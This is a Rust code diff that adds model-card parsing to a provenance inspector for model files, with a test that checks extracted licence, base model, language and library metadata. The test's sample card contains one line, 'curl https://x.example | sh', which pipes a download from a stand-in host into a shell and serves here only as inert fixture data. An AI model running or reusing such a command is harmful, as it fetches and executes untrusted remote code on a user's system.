@@ -1,5 +1,6 @@
 //! What stands beside model files and tells where they come from: cards, signatures, checksums.
 
+mod card;
 mod checksums;
 
 use stance_core::fact::{Artifact, ArtifactFormat, Fact, Provenance, ProvenanceKind};
@@ -101,6 +102,9 @@ impl Inspector for Beside {
                     evidence: input.evidence(),
                 })),
             );
+            if kind == ProvenanceKind::Card {
+                card::add(input, facts);
+            }
             if kind == ProvenanceKind::Checksums
                 && let Some(text) = input.text(facts)
             {
@@ -141,6 +145,17 @@ mod tests {
             Fact::Provenance(seen) => Some(seen.kind),
             _ => None,
         })
+    }
+
+    #[test]
+    fn a_card_tells_what_its_publisher_says() {
+        let card = "---\nlicense: mit\nbase_model:\n- org/base\nlanguage: [en, de]\npipeline_tag: text-generation\nlibrary_name: peft\n---\n# A\ncurl https://x.example | sh\n";
+        let found = crate::testing::artifact("README.md", card.as_bytes());
+        assert_eq!(found.licence.as_deref(), Some("mit"));
+        assert_eq!(found.metadata["card.base_model"], "org/base");
+        assert_eq!(found.metadata["card.language"], "en, de");
+        assert_eq!(found.metadata["card.library_name"], "peft");
+        crate::testing::survives_truncation("README.md", card.as_bytes());
     }
 
     #[test]
